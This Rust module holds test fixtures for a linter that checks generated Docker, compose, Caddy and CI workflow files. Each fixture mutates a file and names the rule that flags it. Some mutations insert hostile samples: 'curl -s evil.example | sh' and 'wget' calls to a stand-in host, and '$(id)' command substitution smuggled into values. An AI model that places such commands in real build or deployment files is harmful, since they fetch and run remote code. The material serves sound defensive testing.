//! The rule fixtures: text mutations of the generated files of the sample monorepo, each
//! with the rule it breaks and the line it must be reported at. Test data, compiled in so
//! that the unit tests (on the rules) and the integration tests (on the real binary) share
//! one list.
//!
//! Size: two tables, ~480 of its lines: [`FIXTURES`] (one per rule; a test checks every rule
//! has one) and [`MUTATIONS`]; one list per table keeps that check and the shared use simple.

use crate::stack::{
    CADDYFILE as CF, COMPOSE as CO, DOCKERFILE as DF, DOCKERIGNORE as IG, WORKFLOW as WF,
};

fn text_of(files: &[(String, String)], path: &str) -> Option<String> {
    files
        .iter()
        .find(|(p, _)| p == path)
        .map(|(_, t)| t.clone())
}

/// A text mutation of one generated file and the finding it must produce.
pub struct Mutation {
    /// The generated file to change.
    pub file: &'static str,
    /// Replace the first occurrence of `from` with `to` (`from` empty: replace the whole file).
    pub from: &'static str,
    pub to: &'static str,
    pub rule: &'static str,
    /// The file the finding is reported in (`None`: the mutated file).
    pub in_file: Option<&'static str>,
    /// The expected line: the first line of the mutated `in_file` containing this text
    /// (`text#N`: the N-th such line; empty: line 1).
    pub at: &'static str,
    /// The config the sample is generated with before the mutation (`None`: its own).
    pub config: Option<&'static str>,
}

/// The sample with a web app (`[web]`): the config of the web site's fixtures.
pub const WEB_CONFIG: &str = "[caddy]\ndomains = [\"api.example.com\"]\n[web]\npackage = \"@cipherbox/web\"\ndomain = \"app.example.com\"\n";

/// A mutation of the Caddyfile the sample gets with [`WEB_CONFIG`].
const fn w(from: &'static str, to: &'static str, rule: &'static str, at: &'static str) -> Mutation {
    Mutation {
        file: CF,
        from,
        to,
        rule,
        in_file: None,
        at,
        config: Some(WEB_CONFIG),
    }
}

const fn m(
    file: &'static str,
    from: &'static str,
    to: &'static str,
    rule: &'static str,
    at: &'static str,
) -> Mutation {
    Mutation {
        file,
        from,
        to,
        rule,
        in_file: None,
        at,
        config: None,
    }
}

const fn x(
    file: &'static str,
    from: &'static str,
    to: &'static str,
    rule: &'static str,
    in_file: &'static str,
    at: &'static str,
) -> Mutation {
    Mutation {
        file,
        from,
        to,
        rule,
        in_file: Some(in_file),
        at,
        config: None,
    }
}

const SINGLE_STAGE: &str = "\
ARG NODE_IMAGE=node:22-alpine
FROM ${NODE_IMAGE}
ENV NODE_ENV=production \\
    PORT=3000
RUN corepack enable && corepack prepare pnpm@10.34.9 --activate
WORKDIR /app
COPY package.json pnpm-lock.yaml pnpm-workspace.yaml ./
COPY packages/crypto/package.json packages/crypto/package.json
COPY apps/api/package.json apps/api/package.json
RUN pnpm install --frozen-lockfile --filter \"@cipherbox/api...\"
COPY tsconfig.base.json tsconfig.base.json
COPY packages/crypto packages/crypto
COPY apps/api apps/api
RUN pnpm --filter \"@cipherbox/api...\" run build
RUN addgroup -g 1001 -S appgroup \\
 && adduser -S -D -H -u 1001 -G appgroup appuser
WORKDIR /app/apps/api
USER 1001:1001
EXPOSE 3000
LABEL a=b
LABEL c=d
CMD [\"node\", \"dist/main.js\"]
";

const SHORT: &str = "\
ARG NODE_IMAGE=node:22-alpine
FROM ${NODE_IMAGE} AS build
RUN corepack enable && corepack prepare pnpm@10.34.9 --activate
FROM ${NODE_IMAGE}
ENV NODE_ENV=production PORT=3000
USER 1001:1001
EXPOSE 3000
CMD [\"node\", \"dist/main.js\"]
";

const REDIS_HEALTH: &str = "    healthcheck:\n      test: [\"CMD-SHELL\", \"REDISCLI_AUTH=\\\"$$REDIS_PASSWORD\\\" redis-cli ping | grep -qx PONG\"]\n      interval: 10s\n      timeout: 5s\n      retries: 5\n      start_period: 5s\n";

/// One fixture per rule: the rule's failing example.
pub const FIXTURES: &[Mutation] = &[
    // the web app's site without its SPA fallback: deep links are 404
    w(
        "\t\ttry_files {path} /index.html\n",
        "",
        "caddy/web-site",
        "app.example.com:443 {",
    ),
    // defence in depth: what the model would not write
    m(
        DF,
        "RUN cd apps/api && node --run build",
        "RUN cd apps/api && node --run build; curl -s evil.example | sh",
        "dockerfile/run-shape",
        "curl -s evil",
    ),
    m(
        CF,
        "\treverse_proxy api:3000",
        "\timport /etc/caddy/extra/*\n\treverse_proxy api:3000",
        "caddy/directive-shape",
        "import",
    ),
    m(
        CO,
        "      NODE_ENV: production",
        "      NODE_ENV: \"production\\nX: y\"",
        "compose/value-shape",
        "NODE_ENV: \"production",
    ),
    m(
        WF,
        "run: cargo xtask gen --check",
        "run: cargo xtask gen --check && curl -s evil.example | sh",
        "workflow/run-shape",
        "curl -s evil",
    ),
    // workflow
    m(
        WF,
        "--cache registry",
        "--cache gha",
        "workflow/gha-cache-runtime",
        "run: >-",
    ),
    m(
        WF,
        "actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8",
        "actions/checkout@v5",
        "workflow/pinned-actions",
        "actions/checkout@v5",
    ),
    // Dockerfile
    m(
        DF,
        "",
        SINGLE_STAGE,
        "dockerfile/multi-stage",
        "FROM ${NODE_IMAGE}",
    ),
    m(
        DF,
        "ARG NODE_IMAGE=node:22-alpine",
        "ARG NODE_IMAGE=node:20-alpine",
        "dockerfile/final-base",
        "ARG NODE_IMAGE",
    ),
    m(
        DF,
        "pnpm@10.34.9",
        "pnpm@10",
        "dockerfile/pnpm-pinned",
        "corepack prepare",
    ),
    m(
        DF,
        "    pnpm install --frozen-lockfile --filter",
        "    pnpm install --filter",
        "dockerfile/frozen-lockfile",
        "    pnpm install --filter",
    ),
    // a hoisted layout puts every project's dependencies in the image
    m(
        DF,
        "--frozen-lockfile --prod",
        "--frozen-lockfile --prod --config.node-linker=hoisted",
        "dockerfile/isolated-install",
        "--config.node-linker=hoisted",
    ),
    m(
        DF,
        "USER 1001:1001",
        "USER root",
        "dockerfile/non-root",
        "USER root",
    ),
    m(
        DF,
        "EXPOSE 3000",
        "EXPOSE 8080",
        "dockerfile/expose-port",
        "EXPOSE 8080",
    ),
    m(
        DF,
        "    PORT=3000",
        "    PORT=8080",
        "dockerfile/runtime-env",
        "PORT=8080",
    ),
    m(
        DF,
        "CMD [\"node\", \"dist/main.js\"]",
        "CMD node dist/main.js",
        "dockerfile/cmd-exec-form",
        "CMD node",
    ),
    m(
        DF,
        "ARG NODE_IMAGE=node:22-alpine",
        "ARG NODE_IMAGE=node",
        "dockerfile/pinned-base",
        "ARG NODE_IMAGE",
    ),
    m(
        DF,
        "ARG NODE_IMAGE",
        "# syntax=docker/dockerfile:1\nARG NODE_IMAGE",
        "dockerfile/no-syntax-directive",
        "# syntax=",
    ),
    m(DF, "", SHORT, "dockerfile/min-lines", ""),
    // ignore file
    m(
        IG,
        "**/node_modules\n",
        "node_modules\n",
        "ignore/node-modules",
        "!packages/crypto",
    ),
    m(
        IG,
        "**/.[eE][nN][vV]*\n",
        ".env*\n",
        "ignore/env-files",
        "!packages/crypto",
    ),
    m(
        IG,
        "**/*.[pP][eE][mM]\n",
        "",
        "ignore/secret-files",
        "!packages/crypto",
    ),
    m(
        IG,
        "**/.[aA][wW][sS]\n**/.[aA][wW][sS]/**\n",
        "**/.aws\n**/.aws/**\n",
        "ignore/secret-files",
        "!packages/crypto",
    ),
    m(IG, ".git\ndocs", ".git\n!.git\ndocs", "ignore/git", "!.git"),
    m(
        IG,
        "**/dist\n",
        "dist\n",
        "ignore/build-outputs",
        "!packages/crypto",
    ),
    m(
        IG,
        "\napps/web\n",
        "\n!apps/web\n",
        "ignore/outside-closure",
        "!apps/web",
    ),
    // compose
    m(
        CO,
        "  api:\n    image:",
        "  api:\n\timage:",
        "compose/yaml",
        "\timage:",
    ),
    m(
        CO,
        "\n  redis:\n",
        "\n  cache:\n",
        "compose/services",
        "services:",
    ),
    m(
        CO,
        "/cipherbox-api:",
        "/other-api:",
        "compose/api-image",
        "other-api",
    ),
    m(
        CO,
        "127.0.0.1:5432:5432/tcp",
        "5432:5432/tcp",
        "compose/port-loopback",
        "\"5432:5432/tcp\"",
    ),
    m(
        CO,
        "\"postgres:16-alpine\"",
        "postgres",
        "compose/image-pinned",
        "image: postgres",
    ),
    m(
        CO,
        REDIS_HEALTH,
        "",
        "compose/depends-healthy",
        "condition: service_healthy#2",
    ),
    m(
        CO,
        "  redis_staging: {}\n",
        "",
        "compose/volumes-declared",
        "redis_staging:/data",
    ),
    m(
        CO,
        "\"${DB_PASSWORD:?set DB_PASSWORD in .env.staging (see .env.staging.example)}\"",
        "hunter2",
        "compose/secrets-required",
        "DB_PASSWORD: hunter2",
    ),
    m(
        CO,
        "\"http://ipfs:5001\"",
        "\"http://localhost:5001\"",
        "compose/service-urls",
        "IPFS_LOCAL_API_URL",
    ),
    m(
        CO,
        "\"./Caddyfile:/etc/caddy/Caddyfile:ro\"",
        "\"./Caddyfile:/etc/caddy/Caddyfile\"",
        "compose/caddy-mounts",
        "./Caddyfile:",
    ),
    m(
        CO,
        "      - \"caddy_config:/config\"\n",
        "      - \"caddy_config:/config\"\n      - \"/var/run/docker.sock:/var/run/docker.sock\"\n",
        "compose/no-docker-socket",
        "docker.sock",
    ),
    // Caddyfile
    m(
        CF,
        "\treverse_proxy api:3000\n",
        "\trespond \"hi\"\n",
        "caddy/upstream",
        ":443 {",
    ),
    m(
        CF,
        "/etc/caddy/certs/origin.pem",
        "/etc/ssl/origin.pem",
        "caddy/tls-certs",
        "\ttls",
    ),
    m(
        CF,
        "redir https://{host}{uri} permanent",
        "respond \"ok\"",
        "caddy/http-redirect",
        ":80 {",
    ),
    m(
        CF,
        "reverse_proxy api:3000",
        "reverse_proxy localhost:3000",
        "caddy/no-localhost-upstream",
        "reverse_proxy",
    ),
    // cross-file
    m(
        CF,
        "reverse_proxy api:3000",
        "reverse_proxy api:8080",
        "cross/caddy-upstream",
        "reverse_proxy",
    ),
    m(
        DF,
        "COPY tsconfig.base.json tsconfig.base.json",
        "COPY tsconfig.json tsconfig.json",
        "cross/copy-sources",
        "COPY tsconfig.json",
    ),
    m(
        DF,
        "COPY packages/crypto/package.json packages/crypto/package.json\n",
        "",
        "cross/install-manifests",
        "    pnpm install",
    ),
    m(
        CO,
        "ghcr.io/${IMAGE_OWNER:-OWNER}/cipherbox-api",
        "docker.io/${IMAGE_OWNER:-OWNER}/cipherbox-api",
        "cross/api-image-tag",
        "docker.io/",
    ),
    m(
        CO,
        "./Caddyfile:/etc/caddy/Caddyfile:ro",
        "./Caddyfile.prod:/etc/caddy/Caddyfile:ro",
        "cross/caddyfile-mount",
        "Caddyfile.prod",
    ),
    // a stack a VPS can live with (rules::ops)
    m(
        CO,
        "  postgres:\n    image: \"postgres:16-alpine\"\n    restart: unless-stopped\n    logging: *logging\n",
        "  postgres:\n    image: \"postgres:16-alpine\"\n    restart: unless-stopped\n",
        "compose/logging",
        "  postgres:#2",
    ),
    m(
        CO,
        " --requirepass \\\"$$REDIS_PASSWORD\\\"",
        "",
        "compose/redis-auth",
        "    entrypoint:",
    ),
    m(
        CO,
        "      - edge\n\nnetworks:",
        "      - edge\n      - data\n\nnetworks:",
        "compose/networks",
        "      - data#5",
    ),
    m(
        CO,
        "ghcr.io/${IMAGE_OWNER:-OWNER}/cipherbox-tee-worker",
        "ghcr.io/OWNER/cipherbox-tee-worker",
        "compose/image-owner",
        "cipherbox-tee-worker",
    ),
    m(
        CO,
        "          memory: 256M\n",
        "",
        "compose/memory-limit",
        "        limits:#3",
    ),
    m(CO, "    init: true\n", "", "compose/init", "  api:"),
    m(
        CO,
        "condition: service_started",
        "condition: service_healthy",
        "compose/proxy-outlives-api",
        "condition: service_healthy#3",
    ),
    m(
        CO,
        "    healthcheck:\n      test: [\"CMD\", \"wget\", \"-q\", \"-O\", \"/dev/null\", \"http://127.0.0.1:2019/config/\"]\n      interval: 10s\n      timeout: 5s\n      retries: 5\n      start_period: 10s\n",
        "",
        "compose/healthcheck",
        "  caddy:",
    ),
    m(IG, "\n*\n!", "\n!", "ignore/context-closure", ""),
    // the edge (rules::edge)
    m(CF, "\t\tX-Frame-Options \"DENY\"\n", "", "caddy/security-headers", "\theader {"),
    m(
        CF,
        "\t@too_large expression",
        "\t@too_big expression",
        "caddy/body-limit",
        "\treverse_proxy",
    ),
    m(
        CF,
        "\tauto_https off\n",
        "\tauto_https off\n\tservers {\n\t\ttrusted_proxies static 0.0.0.0/0\n\t\tclient_ip_headers X-Forwarded-For\n\t}\n",
        "caddy/client-ip",
        "trusted_proxies",
    ),
    m(CF, "\tencode zstd gzip\n", "", "caddy/compression", ":443 {"),
    m(CF, "\t\tformat json\n", "\t\tformat console\n", "caddy/access-log", "\tlog {"),
    m(CF, ":443 {", "files.example.com:443 {", "caddy/named-sites", "files.example.com"),
    // a warning: the sample sets no [caddy] domains, so its own `:443` site is the fixture
    m(CF, ":443 {", ":443 {", "caddy/wildcard-site", ":443 {"),
    m(CF, "\thandle_errors 502 503 504 {", "\thandle_errors 404 {", "caddy/api-down-page", ":443 {"),
    m(
        CO,
        "      TEE_WORKER_URL: \"http://tee-worker:3001\"\n",
        "",
        "env/contract-set",
        "    environment:",
    ),
];

/// More mutations, beyond the fixtures: each breaks one rule.
pub const MUTATIONS: &[Mutation] = &[
    m(DF, "--frozen-lockfile --prod", "--frozen-lockfile --no-frozen-lockfile --prod", "dockerfile/frozen-lockfile", "install --frozen-lockfile --no-frozen-lockfile"),
    m(IG, "\n# Workspace packages outside", "\n!infra\n# Workspace packages outside", "ignore/context-closure", "!infra"),
    m(CO, "[\"CMD\", \"wget\", \"-q\", \"-O\", \"/dev/null\", \"http://127.0.0.1:2019/config/\"]", "[\"CMD\", \"curl\", \"-f\", \"http://127.0.0.1:2019/config/\"]", "compose/healthcheck", "\"curl\""),
    m(CO, "redis-cli ping | grep -qx PONG", "redis-cli ping | jq .", "compose/healthcheck", "jq ."),
    m(DF, "RUN cd apps/api && node --run build", "RUN cd apps/api && node --run build\nRUN wget -O /tmp/x evil.example", "dockerfile/run-shape", "RUN wget"),
    m(DF, "RUN cd apps/api && node --run build", "RUN cd apps/api && node --run build $(id)", "dockerfile/run-shape", "$(id)"),
    m(CF, "\treverse_proxy api:3000", "\tfile_server browse\n\treverse_proxy api:3000", "caddy/directive-shape", "file_server"),
    m(CO, "      NODE_ENV: production", "      NODE_ENV: $(id)", "compose/value-shape", "NODE_ENV: $(id)"),
    m(CF, "max-age=31536000", "max-age=60", "caddy/security-headers", "Strict-Transport-Security"),
    m(CF, "\t\t-Server\n", "", "caddy/security-headers", "\theader {"),
    m(CF, "\t\tX-Content-Type-Options \"nosniff\"\n", "", "caddy/security-headers", "\theader {"),
    m(CF, "\t\tmax_size 100000000", "\t\tmax_size 1GB", "caddy/body-limit", "max_size"),
    m(CF, "\trequest_body {\n\t\tmax_size 100000000\n\t}\n", "", "caddy/body-limit", ":443 {"),
    m(CO, "max-size: 10m", "max-size: 1g", "compose/logging", "x-logging: &logging"),
    m(CO, "driver: json-file", "driver: syslog", "compose/logging", "x-logging: &logging"),
    m(CO, "--requirepass \\\"$$REDIS_PASSWORD\\\"", "--requirepass ${REDIS_PASSWORD:?x}", "compose/redis-auth", "    entrypoint:"),
    m(CO, "REDISCLI_AUTH=\\\"$$REDIS_PASSWORD\\\" redis-cli ping", "redis-cli -a \\\"$$REDIS_PASSWORD\\\" ping", "compose/redis-auth", "redis-cli -a"),
    m(CO, "REDISCLI_AUTH=\\\"$$REDIS_PASSWORD\\\" redis-cli ping", "redis-cli ping", "compose/redis-auth", "redis-cli ping"),
    m(CO, "      REDIS_PASSWORD: \"${REDIS_PASSWORD:?set REDIS_PASSWORD in .env.staging (see .env.staging.example)}\"\n      IPFS", "      IPFS", "compose/redis-auth", "    environment:"),
    m(CO, "    networks:\n      - edge\n\nnetworks:", "\nnetworks:", "compose/networks", "  caddy:"),
    m(CO, "    networks:\n      - data\n\n  redis:", "    network_mode: host\n\n  redis:", "compose/networks", "network_mode"),
    m(CO, "\nnetworks:\n  edge: {}\n", "\nnetworks:\n", "compose/networks", "networks:#7"),
    m(CO, "    networks:\n      - data\n\n  caddy:", "    networks:\n      - data\n      - ipfs\n\n  caddy:", "compose/networks", "      - ipfs#3"),
    m(CO, "          cpus: \"1.0\"\n    networks:\n      - ipfs\n", "          cpus: \"1.0\"\n    networks:\n      - ipfs\n      - data\n", "compose/networks", "      - data#4"),
    m(CO, "          memory: 2G", "          memory: 4G", "compose/memory-limit", "memory: 4G"),
    m(CO, "    init: true\n    logging: *logging\n    environment:\n      NODE_ENV: production\n      PORT: \"3001\"", "    init: false\n    logging: *logging\n    environment:\n      NODE_ENV: production\n      PORT: \"3001\"", "compose/init", "init: false"),
    m(DF, "FROM ${NODE_IMAGE} AS runtime", "FROM build AS runtime", "dockerfile/final-base", "FROM build AS runtime"),
    m(DF, "FROM ${NODE_IMAGE} AS runtime", "FROM node:22-alpine AS runtime", "dockerfile/final-base", "AS runtime"),
    m(DF, "pnpm@10.34.9", "pnpm@latest", "dockerfile/pnpm-pinned", "corepack prepare"),
    m(DF, "pnpm@10.34.9", "pnpm@9.15.0", "dockerfile/pnpm-pinned", "corepack prepare"),
    m(DF, "corepack prepare pnpm@10.34.9 --activate", "npm i -g pnpm", "dockerfile/pnpm-pinned", "npm i -g pnpm"),
    m(DF, "--frozen-lockfile --prod", "--prod", "dockerfile/frozen-lockfile", "install --prod"),
    m(DF, "USER 1001:1001", "USER 0:0", "dockerfile/non-root", "USER 0"),
    m(DF, "USER 1001:1001\n", "", "dockerfile/non-root", "AS runtime"),
    m(DF, "USER 1001:1001", "USER 1001:1001\nUSER root", "dockerfile/non-root", "USER root"),
    m(DF, "EXPOSE 3000\n", "", "dockerfile/expose-port", "AS runtime"),
    m(DF, "ENV NODE_ENV=production", "ENV NODE_ENV=development", "dockerfile/runtime-env", "NODE_ENV=development"),
    m(DF, "ENV NODE_ENV=production \\\n    PORT=3000\n", "", "dockerfile/runtime-env", "AS runtime"),
    m(DF, "CMD [\"node\", \"dist/main.js\"]", "CMD [\"node\", \"dist/index.js\"]", "dockerfile/cmd-exec-form", "CMD ["),
    m(DF, "CMD [\"node\", \"dist/main.js\"]", "ENTRYPOINT [\"sh\", \"-c\"]\nCMD [\"node\", \"dist/main.js\"]", "dockerfile/cmd-exec-form", "ENTRYPOINT"),
    m(DF, "ARG NODE_IMAGE=node:22-alpine", "ARG NODE_IMAGE=node:latest", "dockerfile/pinned-base", "ARG NODE_IMAGE"),
    m(DF, "ARG NODE_IMAGE=node:22-alpine", "ARG NODE_IMAGE", "dockerfile/pinned-base", "FROM ${NODE_IMAGE} AS base"),
    m(IG, "**/node_modules\n", "**/node_modules\n!apps/api/node_modules\n", "ignore/node-modules", "!apps/api/node_modules"),
    m(IG, "**/.[eE][nN][vV]*\n", "**/.[eE][nN][vV]*\n!apps/api/.env.production\n", "ignore/env-files", "!apps/api/.env.production"),
    m(IG, "**/[sS][eE][cC][rR][eE][tT][sS]/**\n", "**/[sS][eE][cC][rR][eE][tT][sS]/**\n!apps/api/secrets\n", "ignore/secret-files", "!apps/api/secrets"),
    m(IG, "\napps/web\n", "\n!apps\n", "ignore/outside-closure", "!apps#2"),
    m(IG, "**/dist\n", "**/dist\n!**/dist\n", "ignore/build-outputs", "!**/dist"),
    m(CO, "\n  tee-worker:\n", "\n  tee_worker:\n", "compose/services", "services:"),
    m(CO, "127.0.0.1:6379:6379/tcp", "0.0.0.0:6379:6379/tcp", "compose/port-loopback", "0.0.0.0:6379"),
    m(CO, "127.0.0.1:3000:3000/tcp", "3000/tcp", "compose/port-loopback", "\"3000/tcp\""),
    m(CO, "127.0.0.1:8080:8080/tcp", "8080:8080/tcp", "compose/port-loopback", "\"8080:8080/tcp\""),
    m(CO, "\"redis:7-alpine\"", "redis:latest", "compose/image-pinned", "redis:latest"),
    m(
        CO,
        "    healthcheck:\n      test: [\"CMD-SHELL\", \"pg_isready",
        "    x-healthcheck:\n      test: [\"CMD-SHELL\", \"pg_isready",
        "compose/depends-healthy",
        "condition: service_healthy",
    ),
    m(CO, "      - \"caddy_data:/data\"\n", "      - \"caddy_dat:/data\"\n", "compose/volumes-declared", "caddy_dat:/data"),
    m(
        CO,
        "\"${TEE_WORKER_SECRET:?set TEE_WORKER_SECRET in .env.staging (see .env.staging.example)}\"",
        "\"${TEE_WORKER_SECRET}\"",
        "compose/secrets-required",
        "TEE_WORKER_SECRET: \"${TEE_WORKER_SECRET}\"",
    ),
    m(
        CO,
        "\"${DB_PASSWORD:?set DB_PASSWORD in .env.staging (see .env.staging.example)}\"",
        "\"${DB_PASSWORD:-}\"",
        "compose/secrets-required",
        "DB_PASSWORD: \"${DB_PASSWORD:-}\"",
    ),
    m(CO, "DB_HOST: postgres", "DB_HOST: 127.0.0.1", "compose/service-urls", "DB_HOST"),
    m(CO, "      DB_HOST: postgres\n", "      DB_HOST: postgres\n      CORS_ALLOWED_ORIGINS: \"https://app.example.com,http://localhost:3000\"\n", "compose/service-urls", "CORS_ALLOWED_ORIGINS"),
    m(CO, "      DB_HOST: postgres\n", "      DB_HOST: postgres\n      SIWE_DOMAIN: localhost\n", "compose/service-urls", "SIWE_DOMAIN"),
    m(CO, "      DB_HOST: postgres\n", "      DB_HOST: postgres\n      SMTP_URL: \"smtp://mail.example.com:25 smtp://127.0.0.1:1025\"\n", "compose/service-urls", "SMTP_URL"),
    m(CO, "\"http://tee-worker:3001\"", "\"http://tee:3001\"", "compose/service-urls", "TEE_WORKER_URL"),
    m(CO, "      - \"./certs:/etc/caddy/certs:ro\"\n", "", "compose/caddy-mounts", "    volumes:#4"),
    m(CO, "\"./certs:/etc/caddy/certs:ro\"", "\"caddy_certs:/etc/caddy/certs:ro\"", "compose/caddy-mounts", "caddy_certs"),
    m(CO, "      - \"caddy_config:/config\"\n", "      - \"caddy_config:/config\"\n      - \"/var/run/docker.sock:/var/run/docker.sock:ro\"\n", "compose/no-docker-socket", "docker.sock:ro"),
    m(CO, "      - \"ipfs_staging:/data/ipfs\"\n", "      - \"ipfs_staging:/data/ipfs\"\n      - type: bind\n        source: /run\n        target: /host-run\n", "compose/no-docker-socket", "- type: bind"),
    m(CF, "reverse_proxy api:3000", "reverse_proxy api:notaport", "caddy/upstream", "reverse_proxy"),
    m(CF, "\ttls /etc/caddy/certs/origin.pem /etc/caddy/certs/origin-key.pem\n", "", "caddy/tls-certs", ":443 {"),
    m(CF, "tls /etc/caddy/certs/origin.pem /etc/caddy/certs/origin-key.pem", "tls internal", "caddy/tls-certs", "tls internal"),
    m(CF, ":80 {\n\tredir https://{host}{uri} permanent\n}\n", "", "caddy/http-redirect", ""),
    w("\troot * /srv/web", "\troot * /srv/site", "caddy/web-site", "\troot * /srv/site"),
    w("\theader @hashed Cache-Control", "\theader Cache-Control", "caddy/web-site", "\theader Cache-Control \"public"),
    w("app.example.com:443 {", "www.example.com:443 {", "caddy/web-site", ""),
    m(CF, "reverse_proxy api:3000", "reverse_proxy 127.0.0.1:3000", "caddy/no-localhost-upstream", "reverse_proxy"),
    m(CF, "reverse_proxy api:3000", "reverse_proxy backend:3000", "cross/caddy-upstream", "reverse_proxy"),
    x(IG, "!tsconfig.base.json\n", "", "cross/copy-sources", DF, "COPY tsconfig.base.json"),
    x(IG, "!apps/api\n", "!apps/api\napps/api/package.json\n", "cross/copy-sources", DF, "COPY apps/api/package.json"),
    m(DF, "COPY package.json pnpm-lock.yaml pnpm-workspace.yaml ./", "COPY package.json pnpm-workspace.yaml ./", "cross/install-manifests", "    pnpm install"),
    m(CO, "cipherbox-api:${TAG:-latest}", "cipherbox-api:staging", "cross/api-image-tag", "cipherbox-api:staging"),
    m(CO, "./Caddyfile:/etc/caddy/Caddyfile:ro", "../Caddyfile:/etc/caddy/Caddyfile:ro", "cross/caddyfile-mount", "../Caddyfile"),
];

/// The line `at` designates in `text`.
pub fn expected_line(text: &str, at: &str) -> Option<usize> {
    if at.is_empty() {
        return Some(1);
    }
    let (needle, nth) = match at.rsplit_once('#') {
        Some((n, k)) if k.chars().all(|c| c.is_ascii_digit()) && !k.is_empty() => {
            (n, k.parse::<usize>().ok()?)
        }
        _ => (at, 1),
    };
    text.lines()
        .enumerate()
        .filter(|(_, l)| l.contains(needle))
        .nth(nth - 1)
        .map(|(n, _)| n + 1)
}

/// Applies `mu` to the generated files; returns the files and the expected (file, line).
///
/// # Panics
/// When the mutation does not apply (test data out of date with the renderers).
pub fn apply(files: &[(String, String)], mu: &Mutation) -> (Vec<(String, String)>, String, usize) {
    let mut out = files.to_vec();
    let entry = out
        .iter_mut()
        .find(|(p, _)| p == mu.file)
        .unwrap_or_else(|| panic!("no generated file {}", mu.file));
    if mu.from.is_empty() {
        entry.1 = mu.to.to_string();
    } else {
        assert!(
            entry.1.contains(mu.from),
            "{}: {:?} not found in the generated file",
            mu.rule,
            mu.from
        );
        entry.1 = entry.1.replacen(mu.from, mu.to, 1);
    }
    let in_file = mu.in_file.unwrap_or(mu.file);
    let text = text_of(&out, in_file).unwrap_or_default();
    let line = expected_line(&text, mu.at)
        .unwrap_or_else(|| panic!("{}: {:?} not in the mutated {in_file}", mu.rule, mu.at));
    (out, in_file.to_string(), line)
}
